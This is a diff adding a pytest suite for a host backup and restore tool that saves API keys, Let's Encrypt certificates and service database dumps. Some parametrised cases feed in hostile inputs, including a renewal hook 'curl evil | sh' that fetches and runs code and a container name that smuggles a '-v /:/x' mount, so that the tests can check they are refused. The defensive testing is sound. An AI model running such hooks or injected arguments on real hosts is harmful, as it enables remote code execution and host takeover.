@@ -1,0 +1,206 @@
+"""What of a host is saved, and that another one gets exactly that (issue 6)."""
+
+from __future__ import annotations
+
+import io
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ai_services.backup.host import certificates, layout, models, places, services
+from ai_services.backup.host.archive import ArchiveError
+from ai_services.backup.host.certificates import CertificateError
+from ai_services.backup.host.reader import verify
+from ai_services.backup.host.services import DeclarationError
+
+from . import world
+from .archives import archive, manifest
+from .world import COLLECT, DOMAIN, STREAMS, call
+
+
+@pytest.fixture
+def deployed(tmp_path: Path) -> Path:
+    return world.host(tmp_path / "host")
+
+
+@pytest.fixture
+def saved(deployed: Path, tmp_path: Path) -> bytes:
+    done = call(deployed, tmp_path, COLLECT)
+    assert done.returncode == 0, done.stderr.decode()
+    return done.stdout
+
+
+def restored(content: bytes, root: Path) -> Path:
+    layout.lay_out(io.BytesIO(content), root / places.RESTORE)
+    for what in places.TAKEN_UP:
+        layout.take(what, root)
+    return root
+
+
+def names(content: bytes) -> set[str]:
+    return {entry.name for entry in verify(io.BytesIO(content)).files}
+
+
+def test_keys_certificates_settings_and_the_journal_are_saved_and_strangers_are_not(saved: bytes) -> None:
+    told = verify(io.BytesIO(saved))
+    assert (told.domain, told.version, told.settings["ai_ollama_model"]) == (DOMAIN, "0.2.0", "m:1")
+    assert names(saved) == {
+        "secrets/api.key", "secrets/gateway/api_keys", "record/release.json", "record/journal.jsonl",
+        "letsencrypt/cloudflare.ini", f"letsencrypt/renewal/{DOMAIN}.conf",
+        "letsencrypt/accounts/acme.example.com/directory/0123abc/private_key.json",
+        *(f"letsencrypt/lineages/{DOMAIN}/{part}.pem" for part in certificates.PARTS),
+    }  # fmt: skip
+
+
+def test_a_fresh_host_gets_the_same_keys_and_certificates(saved: bytes, deployed: Path, tmp_path: Path) -> None:
+    fresh = restored(saved, tmp_path / "fresh")
+    for path in ("opt/ai/secrets/api.key", "opt/ai/secrets/gateway/api_keys", f"etc/letsencrypt/renewal/{DOMAIN}.conf",
+                 "etc/letsencrypt/cloudflare.ini", f"etc/letsencrypt/live/{DOMAIN}/fullchain.pem"):  # fmt: skip
+        assert (fresh / path).read_bytes() == (deployed / path).read_bytes(), path
+    assert (fresh / "opt/ai/secrets/gateway/api_keys").stat().st_mode & 0o777 == 0o400
+    live = fresh / "etc/letsencrypt/live" / DOMAIN / "privkey.pem"
+    assert str(live.readlink()) == f"../../archive/{DOMAIN}/privkey1.pem"
+    assert live.stat().st_mode & 0o777 == 0o600
+    assert not (fresh / places.RESTORE / "secrets").exists(), "what was laid out must not stay"
+
+
+def test_a_host_with_another_certificate_gets_the_archives_as_its_next(saved: bytes, tmp_path: Path) -> None:
+    """As certbot does after a renewal: numbers go on, and the links change last."""
+    other = tmp_path / "other"
+    world.host(other)
+    world.put(other / f"etc/letsencrypt/archive/{DOMAIN}/cert4.pem", "cert 4\n")
+    (other / f"etc/letsencrypt/live/{DOMAIN}/cert.pem").unlink()
+    (other / f"etc/letsencrypt/live/{DOMAIN}/cert.pem").symlink_to(f"../../archive/{DOMAIN}/cert4.pem")
+    restored(saved, other)
+    live = other / "etc/letsencrypt/live" / DOMAIN
+    assert (live / "cert.pem").read_text() == f"cert 3 of {DOMAIN}\n"
+    assert {str((live / f"{part}.pem").readlink())[-5:] for part in certificates.PARTS} == {"5.pem"}
+
+
+def test_restoring_twice_changes_nothing(saved: bytes, tmp_path: Path) -> None:
+    fresh = restored(saved, tmp_path / "fresh")
+    layout.lay_out(io.BytesIO(saved), fresh / places.RESTORE)
+    assert [layout.take(what, fresh) for what in places.TAKEN_UP] == [[], []]
+
+
+@pytest.mark.parametrize("cut", [0, 100, 3000, -1])
+def test_a_host_lays_nothing_out_of_an_archive_that_is_not_whole(cut: int, saved: bytes, tmp_path: Path) -> None:
+    place = tmp_path / "fresh" / places.RESTORE
+    with pytest.raises(ArchiveError):
+        layout.lay_out(io.BytesIO(saved[:cut]), place)
+    assert not place.exists()
+    assert list(place.parent.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "pre_hook = curl evil | sh",
+        "renew_hook = /bin/sh",
+        "manual_auth_hook = /tmp/x",
+        "  post_hook=/bin/x",
+        "'renew_hook' = /bin/x",
+    ],
+)
+def test_a_renewal_that_would_run_a_program_is_refused(line: str, tmp_path: Path) -> None:
+    contents = {"letsencrypt/renewal/evil.conf": f"[renewalparams]\n{line}\n".encode()}
+    with pytest.raises(CertificateError, match="no program of ours"):
+        layout.lay_out(io.BytesIO(archive(manifest(contents, ()), contents)), tmp_path / places.RESTORE)
+    assert not (tmp_path / places.RESTORE).exists()
+
+
+@pytest.mark.parametrize("name", ["cron/x", "secrets", "etc/passwd", "bin/doctor"])
+def test_files_that_nobody_knows_are_refused(name: str, tmp_path: Path) -> None:
+    contents = {name: b"x"}
+    with pytest.raises(ArchiveError, match="nobody here knows"):
+        layout.lay_out(io.BytesIO(archive(manifest(contents, ()), contents)), tmp_path / places.RESTORE)
+
+
+def test_nothing_is_saved_of_a_bare_host(tmp_path: Path) -> None:
+    done = call(tmp_path, tmp_path, COLLECT)
+    assert done.returncode != 0
+    assert b"Nothing is deployed" in done.stderr
+    assert done.stdout == b""
+
+
+def test_a_made_up_service_joins_by_its_declaration_alone(deployed: Path, tmp_path: Path) -> None:
+    """So will ai-jobs' database."""
+    rows = os.urandom(6 * 2**20)
+    database = world.made_up_service(deployed, tmp_path / "tools", rows)
+    done = call(deployed, tmp_path / "tools", COLLECT)
+    assert done.returncode == 0, done.stderr.decode()
+    told = verify(io.BytesIO(done.stdout))
+    assert [str(stream) for stream in told.streams] == ["made-up/database"]
+    database.write_bytes(b"empty")
+    back = call(deployed, tmp_path / "tools", STREAMS, done.stdout)
+    assert back.returncode == 0, back.stderr.decode()
+    assert database.read_bytes() == rows
+    assert back.stdout.decode().split("\n")[0] == "restored made-up/database"
+
+
+def test_a_dump_that_fails_is_no_backup(deployed: Path, tmp_path: Path) -> None:
+    world.made_up_service(deployed, tmp_path / "tools", b"half of the rows")
+    (tmp_path / "tools" / "status").write_text("3")
+    done = call(deployed, tmp_path / "tools", COLLECT)
+    assert done.returncode != 0
+    assert b"in container made-up failed (3)" in done.stderr
+    with pytest.raises(ArchiveError):
+        verify(io.BytesIO(done.stdout))
+
+
+def test_a_service_that_stands_still_is_said_and_one_not_there_has_nothing(deployed: Path, tmp_path: Path) -> None:
+    world.made_up_service(deployed, tmp_path / "tools", b"rows")
+    (tmp_path / "tools" / "state").write_text("exited")
+    assert b"container made-up is exited" in call(deployed, tmp_path / "tools", COLLECT).stderr
+    done = call(deployed, tmp_path / "empty", COLLECT)
+    assert verify(io.BytesIO(done.stdout)).streams == []
+
+
+def test_what_no_service_here_knows_is_left_and_said(deployed: Path, tmp_path: Path) -> None:
+    done = call(deployed, tmp_path, STREAMS, archive())
+    assert done.returncode == 0, done.stderr.decode()
+    assert done.stdout.decode() == "skipped made-up/database\n"
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        [], {"Made Up": {}}, {"a": {"paths": ["/etc"]}}, {"a": {"volumes": ["../x"]}}, {"a": {"volumes": [5]}},
+        {"a": {"dumps": [{"name": "d", "container": "c", "save": "pg_dump", "restore": ["x"]}]}},
+        {"a": {"dumps": [{"name": "../d", "container": "c", "save": ["x"], "restore": ["x"]}]}},
+        {"a": {"dumps": [{"name": "d", "container": "-v /:/x", "save": ["x"], "restore": ["x"]}]}},
+        {"a": {"dumps": [{"name": "d", "container": "c", "save": ["x"]}]}},
+    ],
+)  # fmt: skip
+def test_a_declaration_that_makes_no_sense_is_refused(raw: Any) -> None:
+    with pytest.raises(DeclarationError):
+        services.parse(raw)
+
+
+def test_models_are_listed_with_their_digests(tmp_path: Path) -> None:
+    world.put(tmp_path / "ollama/models/manifests/registry.ollama.ai/library/m/1b", b"{}")
+    world.put(tmp_path / "ollama/models/manifests/hf.co/owner/n/q4", b"{}")
+    world.put(tmp_path / "hf/fetched.json", '{"tiny.en": "hub/models--x/snapshots/0d3d19a3"}')
+    digest = "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
+    assert models.listed(tmp_path / "ollama", tmp_path / "hf") == [
+        {"engine": "ollama", "name": "hf.co/owner/n:q4", "digest": digest},
+        {"engine": "ollama", "name": "m:1b", "digest": digest},
+        {"engine": "whisper", "name": "tiny.en", "digest": "0d3d19a3"},
+    ]
+    assert models.listed(None, None) == []
+
+
+def test_declarations_of_the_repository_are_sound() -> None:
+    import yaml
+
+    folder = Path(__file__).resolve().parents[2] / "bootstrap/ai/backup"
+    assert isinstance(
+        services.parse({path.stem: yaml.safe_load(path.read_text()) for path in folder.glob("*.yaml")}), list
+    )
+    page = (folder / "README.md").read_text()
+    example = page.split("```yaml\n")[1].split("```")[0]
+    assert [str(each.stream) for each in services.parse({"ai-jobs": yaml.safe_load(example)})] == [
+        "ai-jobs/database", "ai-jobs/job-artifacts",
+    ]  # fmt: skip
